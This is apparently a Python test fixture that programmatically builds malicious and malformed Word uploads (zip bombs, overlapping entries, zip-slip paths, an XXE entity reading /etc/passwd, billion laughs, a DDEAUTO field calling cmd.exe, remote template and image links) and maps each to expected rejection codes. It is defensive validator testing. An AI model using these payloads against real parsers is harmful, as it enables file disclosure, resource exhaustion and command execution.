"""Uploads that must be refused, built by code: name → (bytes, expected codes)."""

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

from tests.unit.assembly.word_files import (
    DECLARATION,
    PNG,
    field,
    paragraph,
    part,
    parts,
    relationships,
    word_file,
    zipped,
)

Corpus = dict[str, tuple[Callable[[], bytes], set[str]]]
HELLO = paragraph("你好")


def with_parts(**changed: str | bytes | None) -> Callable[[], bytes]:
    """A good file with members added, replaced or (None) removed."""

    def build() -> bytes:
        members = parts(HELLO)
        for name, content in changed.items():
            if content is None:
                members.pop(name)
            else:
                members[name] = content
        return zipped(members)

    return build


def with_body(body: str) -> Callable[[], bytes]:
    return lambda: word_file(body)


def linked(kind: str, target: str, *, external: bool = True) -> Callable[[], bytes]:
    """A good file whose settings part points outside."""
    rows = relationships(("rId9", kind, target), external=external)
    return with_parts(**{"word/_rels/styles.xml.rels": rows})


def typed(name: str, kind: str, content: bytes = b"x") -> Callable[[], bytes]:
    """A good file with a foreign part and its content type."""

    def build() -> bytes:
        members = parts(HELLO)
        types = str(members["[Content_Types].xml"])
        override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
        members["[Content_Types].xml"] = types.replace("</Types>", override)
        members[name] = content
        return zipped(members)

    return build


def media(name: str, content: bytes) -> Callable[[], bytes]:
    return with_parts(**{f"word/media/{name}": content})


def png(width: int, height: int, behind: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + data + chunk(b"IEND", b"") + behind


def duplicated(name: str, other: str) -> Callable[[], bytes]:
    def build() -> bytes:
        buffer = io.BytesIO(word_file(HELLO))
        with zipfile.ZipFile(buffer, "a") as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")
            info = zipfile.ZipInfo(other)
            archive.writestr(info, part("document", f"<w:body>{name}</w:body>"))
        return buffer.getvalue()

    return build


def _noise(size: int) -> bytes:
    return random.Random(1).randbytes(size)


def _set_everywhere(marker: bytes, offset: int, value: bytes) -> Callable[[], bytes]:
    """A good file with bytes overwritten behind every header `marker`."""

    def build() -> bytes:
        content = bytearray(word_file(HELLO))
        place = content.find(marker)
        while place >= 0:
            content[place + offset : place + offset + len(value)] = value
            place = content.find(marker, place + 4)
        return bytes(content)

    return build


def encrypted() -> bytes:
    content = bytearray(_set_everywhere(b"PK\x03\x04", 6, b"\x01")())
    place = content.find(b"PK\x01\x02")
    while place >= 0:
        content[place + 8] = 1
        place = content.find(b"PK\x01\x02", place + 4)
    return bytes(content)


def bomb(size: int) -> bytes:
    """A part of `size` spaces, compressed about a thousand times."""
    members = parts(HELLO)
    blank = b"<b>" + b" " * 10_000 + b"</b>"
    members["word/header.xml"] = b"<a>" + blank * (size // 10_000) + b"</a>"
    return zipped(members)


def many_large_parts() -> bytes:
    """Parts that are small enough each, and too large together."""
    noise = "".join(f"{n * 2654435761 % 2**32:08x}" for n in range(100))
    block = f"<b>{noise}{' ' * 60_000}</b>"
    members = parts(HELLO)
    for number in range(40):
        members[f"word/header{number}.xml"] = f"<a>{block * 30}</a>"
    return zipped(members)


def overlapping() -> bytes:
    """Two directory entries over one and the same member (a better zip bomb)."""
    content = bytearray(word_file(HELLO))
    first = content.find(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    length = 46 + struct.unpack_from("<H", content, first + 28)[0]
    row = bytearray(content[first : first + length])
    name_length = struct.unpack_from("<H", row, 28)[0]
    row[46 : 46 + name_length] = b"[Content_Types].xm2"[:name_length]
    content[end:end] = row
    end += len(row)
    count = struct.unpack_from("<H", content, end + 8)[0] + 1
    size = struct.unpack_from("<I", content, end + 12)[0] + len(row)
    struct.pack_into("<HHI", content, end + 8, count, count, size)
    return bytes(content)


def lying_size() -> bytes:
    """A directory that says 10 bytes where the member holds many."""
    content = bytearray(word_file(HELLO))
    for marker, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = content.find(marker)
        struct.pack_into("<I", content, place + offset, 10)
    return bytes(content)


def nested_elements(depth: int) -> str:
    return "<w:p>" * depth + "</w:p>" * depth


DOCTYPE = (
    DECLARATION + '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:styles>'
)
LAUGHS = (
    DECLARATION + "<!DOCTYPE a ["
    '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
)
STYLES = "word/styles.xml"
_VBA = "application/vnd.ms-office.vbaProject"
_OLE = "application/vnd.openxmlformats-officedocument.oleObject"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_IN_DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"


def _macro_document() -> bytes:
    members = parts(HELLO)
    types = str(members["[Content_Types].xml"])
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    members["[Content_Types].xml"] = types.replace(main, _MACRO)
    return zipped(members)


def _split_field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f"<w:p>{begin}{runs}{end}</w:p>"


NESTED_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    "<w:r><w:instrText>PAGE </w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    "<w:r><w:instrText>PAGE</w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
BOUND = (
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr>'
    f"<w:sdtContent>{HELLO}</w:sdtContent></w:sdt>"
)

UPLOADS: Corpus = {
    # The container.
    "empty": (lambda: b"", {"E-AS-22"}),
    "plain text": (lambda: b"hello" * 20, {"E-AS-22"}),
    "pdf": (lambda: b"%PDF-1.7\n" + b"x" * 200, {"E-AS-22"}),
    "old doc or encrypted": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        {"E-AS-28"},
    ),
    "truncated": (lambda: word_file(HELLO)[:-30], {"E-AS-22"}),
    "other zip": (lambda: zipped({"a.xml": "<a/>"}), {"E-AS-22", "E-AS-32"}),
    "encrypted entries": (encrypted, {"E-AS-28"}),
    "bytes before": (lambda: b"MZ" + b"\0" * 98 + word_file(HELLO), {"E-AS-29"}),
    "bytes behind": (lambda: word_file(HELLO) + b"%PDF-1.7", {"E-AS-29"}),
    "second zip behind": (lambda: word_file(HELLO) * 2, {"E-AS-29"}),
    "overlapping entries": (overlapping, {"E-AS-29"}),
    "size of the directory lies": (lying_size, {"E-AS-24"}),
    "wrong checksum": (_set_everywhere(b"PK\x01\x02", 16, b"\1\2\3\4"), {"E-AS-23"}),
    "name of the header lies": (_set_everywhere(b"PK\x03\x04", 30, b"Z"), {"E-AS-23"}),
    "unknown compression": (_set_everywhere(b"PK\x01\x02", 10, b"\x0c"), {"E-AS-23"}),
    "too many entries": (
        with_parts(**{f"word/h{n}.xml": "<a/>" for n in range(400)}),
        {"E-AS-24"},
    ),
    "file too large": (lambda: b"PK\x03\x04" + bytes(11 * 2**20), {"E-AS-24"}),
    "duplicate entry": (duplicated("", "word/document.xml"), {"E-AS-27"}),
    "duplicate by case": (duplicated("", "word/DOCUMENT.xml"), {"E-AS-27"}),
    "zip slip": (with_parts(**{"../../evil.xml": "<a/>"}), {"E-AS-26"}),
    "absolute name": (with_parts(**{"/etc/evil.xml": "<a/>"}), {"E-AS-26"}),
    "backslash name": (with_parts(**{"word\\evil.xml": "<a/>"}), {"E-AS-26"}),
    "drive name": (with_parts(**{"C:evil.xml": "<a/>"}), {"E-AS-26"}),
    "long name": (with_parts(**{"word/" + "a" * 300 + ".xml": "<a/>"}), {"E-AS-26"}),
    # Bombs.
    "zip bomb": (lambda: bomb(19 * 2**20), {"E-AS-25"}),
    "200 MB of zeros": (lambda: bomb(200 * 2**20), {"E-AS-24"}),
    "many large parts": (many_large_parts, {"E-AS-24"}),
    "deep markup": (with_body(nested_elements(5_000)), {"E-AS-30"}),
    "too many elements": (
        with_body("".join(f'<w:p w:a="{n:x}"/>' for n in range(600_000))),
        {"E-AS-30"},
    ),
    "endless tag": (
        with_body(f'<w:p w:a="{_noise(700_000).hex()}"/>'),
        {"E-AS-30"},
    ),
    # The XML.
    "external entity": (with_parts(**{STYLES: DOCTYPE}), {"E-AS-30"}),
    "billion laughs": (with_parts(**{STYLES: LAUGHS}), {"E-AS-30"}),
    "utf-16 doctype": (with_parts(**{STYLES: DOCTYPE.encode("utf-16")}), {"E-AS-30"}),
    "other encoding": (
        with_parts(**{STYLES: '<?xml version="1.0" encoding="GBK"?><a/>'}),
        {"E-AS-30"},
    ),
    "processing instruction": (
        with_parts(**{STYLES: '<?xml-stylesheet href="http://x/"?><a/>'}),
        {"E-AS-30"},
    ),
    "tag in an XML comment": (with_body("<!-- {{ x }} -->"), {"E-AS-30"}),
    "cdata": (with_body("<w:p><![CDATA[{{ x }}]]></w:p>"), {"E-AS-30"}),
    "broken xml": (with_body("<w:p>"), {"E-AS-30"}),
    "prefix of another namespace": (
        with_body(
            '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
        ),
        {"E-AS-30"},
    ),
    # What the file holds or points to.
    "macro document": (_macro_document, {"E-AS-22", "E-AS-32"}),
    "vba project": (typed("word/vbaProject.bin", _VBA), {"E-AS-32"}),
    "ole part": (typed("word/embeddings/oleObject1.bin", _OLE), {"E-AS-32"}),
    "embedded workbook": (typed("word/embeddings/a.xlsx", _SHEET), {"E-AS-32"}),
    "nested zip": (media("a.zip", zipped({"a": "b"})), {"E-AS-32"}),
    "nested zip as picture": (media("a.png", zipped({"a": "b"})), {"E-AS-35"}),
    "html part": (typed("word/a.html", "text/html"), {"E-AS-32"}),
    "svg picture": (media("a.svg", b"<svg/>"), {"E-AS-32"}),
    "emf picture": (media("a.emf", b"x"), {"E-AS-32"}),
    "ole element": (with_body("<w:p><w:r><w:object/></w:r></w:p>"), {"E-AS-32"}),
    "activex element": (with_body('<w:control r:id="r1"/>'), {"E-AS-32"}),
    "alt chunk": (with_body('<w:altChunk r:id="r1"/>'), {"E-AS-32"}),
    "sub document": (with_body('<w:subDoc r:id="r1"/>'), {"E-AS-32"}),
    "attached template": (
        linked("attachedTemplate", "http://192.0.2.1/evil.dotm"),
        {"E-AS-31"},
    ),
    "external picture": (linked("image", "http://192.0.2.1/a.png"), {"E-AS-31"}),
    "file share": (linked("image", "\\\\192.0.2.1\\a.png"), {"E-AS-31"}),
    "link to a script": (linked("hyperlink", "javascript:alert(1)"), {"E-AS-31"}),
    "outside without saying so": (
        linked("image", "file:///etc/passwd", external=False),
        {"E-AS-31"},
    ),
    "target that climbs out": (
        linked("image", "../../../etc/passwd", external=False),
        {"E-AS-30"},
    ),
    "vml picture outside": (
        with_body('<w:pict><v:imagedata src="http://192.0.2.1/a.png"/></w:pict>'),
        {"E-AS-31"},
    ),
    "includetext": (with_body(field("INCLUDETEXT /etc/passwd")), {"E-AS-33"}),
    "includepicture": (with_body(field('INCLUDEPICTURE "http://x/a"')), {"E-AS-33"}),
    "dde": (with_body(field(_IN_DDE)), {"E-AS-33"}),
    "dde over runs": (with_body(_split_field("DD", "EAU", "TO x")), {"E-AS-33"}),
    "simple field": (
        with_body('<w:fldSimple w:instr="INCLUDETEXT a"/>'),
        {"E-AS-33"},
    ),
    "nested field": (with_body(NESTED_FIELD), {"E-AS-33"}),
    "formula field": (with_body(field("= 1 + 1")), {"E-AS-33"}),
    "hyperlink field": (with_body(field('HYPERLINK "http://x/"')), {"E-AS-33"}),
    "tag in a field": (with_body(field("REF {{ x }}")), {"E-AS-33"}),
    "data binding": (with_body(BOUND), {"E-AS-34"}),
    "tag in an attribute": (with_body('<w:p w:rsidR="{{ x }}"/>'), {"E-AS-20"}),
    "picture too wide": (media("a.png", png(30_000, 30_000)), {"E-AS-35"}),
    "picture with a tail": (media("a.png", PNG + b"PK\x03\x04"), {"E-AS-35"}),
    "picture of another kind": (media("a.gif", PNG), {"E-AS-35"}),
    "picture too heavy": (
        media("a.gif", b"GIF89a\1\0\1\0\0\0\0" + _noise(6 * 2**20) + b";"),
        {"E-AS-35"},
    ),
    "no content types": (
        with_parts(**{"[Content_Types].xml": None}),
        {"E-AS-22", "E-AS-32"},
    ),
    "no body": (with_parts(**{"word/document.xml": None}), {"E-AS-22", "E-AS-30"}),
}
